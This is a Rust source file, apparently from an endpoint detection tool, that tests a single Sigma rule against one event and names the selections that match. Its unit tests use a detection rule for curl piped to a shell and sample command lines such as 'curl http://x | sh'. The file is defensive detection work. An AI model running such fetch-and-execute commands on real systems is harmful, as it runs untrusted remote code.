//! Trying a Sigma rule on one event, with nothing stored or installed: the rule (a stored one
//! or pasted YAML) is compiled into a rule set of its own and judged by the same matcher the
//! ingest path uses (`cordon_detect::RuleSet`). The event is either an event as the controller
//! stores it (as `cordonctl events query --json` prints it, or `cordon_proto::Event` as
//! JSON), judged exactly as detection judges it, or an object of Sigma fields
//! (`{"Image": "/usr/bin/curl", ...}`, with `category` naming the log source,
//! `process_creation` unless given), as `cordonctl rules test` takes it.

use super::{Controller, CoreError};
use cordon_detect::fields::PROCESS_CREATION;
use cordon_detect::{RuleSet, parse_rule};
use cordon_proto::limits::MAX_RULE_BYTES;
use cordon_proto::{Event, FileEvent, ProcessEvent, event, file_event, process_event};
use serde_json::Value;

/// Largest event accepted, as JSON text.
pub const MAX_TEST_EVENT: usize = 16 * 1024;
/// Most selections judged one by one.
const MAX_SELECTIONS: usize = 16;

/// The rule to try.
#[derive(Debug, Clone)]
pub enum RuleToTest {
    /// A stored rule, by id.
    Stored(String),
    /// A rule's YAML.
    Yaml(String),
}

/// What the rule made of the event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleTest {
    pub rule_id: String,
    pub title: String,
    pub level: String,
    /// The log source category the event was judged as.
    pub category: String,
    pub matched: bool,
    /// The rule's selections that match the event on their own.
    pub selections: Vec<String>,
}

impl Controller {
    /// Judges `event` (JSON text) with `rule`, as detection would.
    pub async fn test_rule(&self, rule: RuleToTest, event: &str) -> Result<RuleTest, CoreError> {
        let (origin, yaml) = match rule {
            RuleToTest::Yaml(y) => ("pasted rule".to_string(), y),
            RuleToTest::Stored(id) => {
                let row = self.rules().await?.into_iter().find(|r| r.id == id);
                let row = row.ok_or(CoreError::NoRule(id))?;
                (row.origin, row.source)
            }
        };
        judge(&origin, &yaml, event)
    }
}

/// Compiles `yaml` alone and judges `event` with it.
pub fn judge(origin: &str, yaml: &str, event: &str) -> Result<RuleTest, CoreError> {
    if yaml.len() > MAX_RULE_BYTES {
        return Err(CoreError::RuleTooLarge {
            origin: origin.into(),
            size: yaml.len(),
        });
    }
    if event.len() > MAX_TEST_EVENT {
        return Err(CoreError::TestEventTooLarge(event.len()));
    }
    let rule = parse_rule(yaml, origin).map_err(CoreError::BadRule)?;
    let sample = Sample::parse(event)?;
    let matched = sample
        .matched_by(yaml, origin)
        .map_err(CoreError::BadRule)?;
    let selections = selections(yaml)
        .into_iter()
        .filter(|name| {
            alone(yaml, name).is_some_and(|y| sample.matched_by(&y, origin).unwrap_or(false))
        })
        .collect();
    Ok(RuleTest {
        rule_id: rule.id,
        title: rule.title,
        level: rule.level,
        category: sample.category(),
        matched,
        selections,
    })
}

/// The event to judge: as the controller stores it, or Sigma fields.
enum Sample {
    Event(Box<Event>),
    Fields(String, serde_json::Map<String, Value>),
}

impl Sample {
    fn parse(text: &str) -> Result<Self, CoreError> {
        let value: Value =
            serde_json::from_str(text).map_err(|e| CoreError::BadTestEvent(e.to_string()))?;
        if let Some(e) = listed_event(&value) {
            return Ok(Self::Event(Box::new(e)));
        }
        if let Ok(e) = serde_json::from_value::<Event>(value.clone())
            && e.body.is_some()
        {
            return Ok(Self::Event(Box::new(e)));
        }
        let Value::Object(mut fields) = value else {
            return Err(CoreError::BadTestEvent("it must be a JSON object".into()));
        };
        let category = match fields.remove("category") {
            Some(Value::String(c)) => c,
            Some(_) => return Err(CoreError::BadTestEvent("category is text".into())),
            None => PROCESS_CREATION.to_string(),
        };
        Ok(Self::Fields(category, fields))
    }

    fn category(&self) -> String {
        match self {
            Self::Event(e) => cordon_detect::fields::view(e)
                .map(|(c, _)| c.to_string())
                .unwrap_or_default(),
            Self::Fields(c, _) => c.clone(),
        }
    }

    /// Whether the rule in `yaml`, alone in a rule set, matches.
    fn matched_by(&self, yaml: &str, origin: &str) -> Result<bool, cordon_detect::RuleError> {
        let mut set = RuleSet::new();
        set.insert(parse_rule(yaml, origin)?)?;
        let found = match self {
            Self::Event(e) => set.evaluate(e),
            Self::Fields(category, fields) => set.evaluate_fields(category, fields),
        };
        Ok(!found.is_empty())
    }
}

/// An event as `cordonctl events query --json` prints it: the body under `process` or
/// `file`, its kind by name (`exec`, `create`, ...); fields left out take their defaults.
fn listed_event(v: &Value) -> Option<Event> {
    let body = |field: &str| -> Option<(Value, String)> {
        let mut b = v.get(field)?.clone();
        let kind = match b.get("kind")?.as_str()? {
            "unknown" => "KIND_UNSPECIFIED".to_string(),
            k => k.to_ascii_uppercase(),
        };
        b.as_object_mut()?.remove("kind");
        Some((b, kind))
    };
    let body = if let Some((p, kind)) = body("process") {
        let mut p: ProcessEvent = from_fields(p)?;
        p.kind = process_event::Kind::from_str_name(&kind)? as i32;
        event::Body::Process(p)
    } else {
        let (f, kind) = body("file")?;
        let mut f: FileEvent = from_fields(f)?;
        f.kind = file_event::Kind::from_str_name(&kind)? as i32;
        event::Body::File(f)
    };
    Some(Event {
        seq: v.get("seq").and_then(Value::as_u64).unwrap_or(0),
        time_ms: v.get("time_ms").and_then(Value::as_i64).unwrap_or(0),
        body: Some(body),
        ..Default::default()
    })
}

/// A message from an object holding some of its fields (the others take their defaults).
fn from_fields<T: Default + serde::Serialize + serde::de::DeserializeOwned>(
    given: Value,
) -> Option<T> {
    let mut whole = serde_json::to_value(T::default()).ok()?;
    let (Some(all), Value::Object(given)) = (whole.as_object_mut(), given) else {
        return None;
    };
    all.extend(given);
    serde_json::from_value(whole).ok()
}

/// The names under `detection:` other than `condition` (at most [`MAX_SELECTIONS`]).
fn selections(yaml: &str) -> Vec<String> {
    let Ok(docs) = cordon_detect::yaml::parse(yaml) else {
        return Vec::new();
    };
    let detection = docs.first().and_then(|d| d.get("detection"));
    let Some(pairs) = detection.and_then(|d| d.as_map()) else {
        return Vec::new();
    };
    pairs
        .iter()
        .filter_map(|(k, _)| k.as_str())
        .filter(|k| !["condition", "timeframe"].contains(k))
        .filter(|k| k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        .take(MAX_SELECTIONS)
        .map(str::to_string)
        .collect()
}

/// `yaml` with its condition replaced by `selection` alone; `None` unless the condition is a
/// one-line scalar.
fn alone(yaml: &str, selection: &str) -> Option<String> {
    let docs = cordon_detect::yaml::parse(yaml).ok()?;
    let detection = docs.first()?.get("detection")?.as_map()?;
    let (key, value) = detection
        .iter()
        .find(|(k, _)| k.as_str() == Some("condition"))?;
    value.as_str()?;
    let at = key.pos.line.checked_sub(1)?;
    let mut lines: Vec<String> = yaml.lines().map(str::to_string).collect();
    let line = lines.get_mut(at)?;
    let head = line.find("condition:")?;
    if value.pos.line != key.pos.line {
        return None;
    }
    *line = format!("{}condition: {selection}", &line[..head]);
    Some(lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULE: &str = "title: Curl piped to a shell
id: 0e1a7c39-4d7b-4bd7-9a53-1e3d7a8c2f10
status: test
level: high
logsource:
  category: process_creation
  product: linux
detection:
  selection:
    Image|endswith: /curl
    CommandLine|contains: '| sh'
  condition: selection
";

    #[test]
    fn sigma_fields_match_or_not() {
        let hit = r#"{"Image": "/usr/bin/curl", "CommandLine": "curl http://x | sh"}"#;
        let t = judge("r", RULE, hit).unwrap();
        assert!(t.matched && t.category == "process_creation" && t.level == "high");
        let miss = r#"{"Image": "/usr/bin/wget", "CommandLine": "wget http://x | sh"}"#;
        assert!(!judge("r", RULE, miss).unwrap().matched);
        let file = r#"{"category": "file_event", "Image": "/usr/bin/curl", "CommandLine": "| sh"}"#;
        assert!(!judge("r", RULE, file).unwrap().matched, "another category");
    }

    #[test]
    fn a_stored_event_is_judged_as_detection_judges_it() {
        use cordon_proto::{ProcessEvent, event, process_event};
        let exec = |exe: &str| Event {
            seq: 1,
            time_ms: 0,
            body: Some(event::Body::Process(ProcessEvent {
                kind: process_event::Kind::Exec as i32,
                exe: exe.into(),
                argv: vec!["curl".into(), "http://x".into(), "|".into(), "sh".into()],
                ..Default::default()
            })),
            ..Default::default()
        };
        let json = |e: Event| serde_json::to_string(&e).unwrap();
        let t = judge("r", RULE, &json(exec("/usr/bin/curl"))).unwrap();
        assert!(t.matched && t.category == "process_creation", "{t:?}");
        assert!(
            !judge("r", RULE, &json(exec("/usr/bin/wget")))
                .unwrap()
                .matched
        );
    }

    #[test]
    fn an_event_as_cordonctl_lists_it_is_judged_too() {
        let line = |exe: &str| {
            serde_json::json!({
                "seq": 4, "time_ms": 1, "agent_id": "a1",
                "process": { "kind": "exec", "exe": exe, "argv": ["curl", "x", "|", "sh"] }
            })
            .to_string()
        };
        let t = judge("r", RULE, &line("/usr/bin/curl")).unwrap();
        assert!(t.matched && t.category == "process_creation", "{t:?}");
        assert!(!judge("r", RULE, &line("/usr/bin/wget")).unwrap().matched);
        let file = r#"{"seq": 1, "file": {"kind": "create", "path": "/tmp/x"}}"#;
        assert_eq!(judge("r", RULE, file).unwrap().category, "file_event");
    }

    #[test]
    fn the_selections_that_match_are_named() {
        let rule = RULE.replace(
            "  condition: selection\n",
            "  filter:\n    User: root\n  condition: selection and not filter\n",
        );
        let root = r#"{"Image": "/usr/bin/curl", "CommandLine": "curl x | sh", "User": "root"}"#;
        let t = judge("r", &rule, root).unwrap();
        assert!(!t.matched);
        assert_eq!(t.selections, ["selection", "filter"]);
        let other = root.replace("root", "ann");
        let t = judge("r", &rule, &other).unwrap();
        assert!(t.matched && t.selections == ["selection"], "{t:?}");
    }

    #[test]
    fn bad_input_is_refused_naming_the_problem() {
        let e = judge("r", "title: x\n", "{}").unwrap_err();
        assert!(matches!(e, CoreError::BadRule(_)), "{e}");
        let e = judge("r", RULE, "not json").unwrap_err();
        assert!(e.to_string().contains("the event is not valid"), "{e}");
        let e = judge("r", RULE, "[1]").unwrap_err();
        assert!(e.to_string().contains("JSON object"), "{e}");
        let big = format!("{{\"Image\": \"{}\"}}", "a".repeat(MAX_TEST_EVENT));
        let e = judge("r", RULE, &big).unwrap_err();
        assert!(matches!(e, CoreError::TestEventTooLarge(_)), "{e}");
    }
}
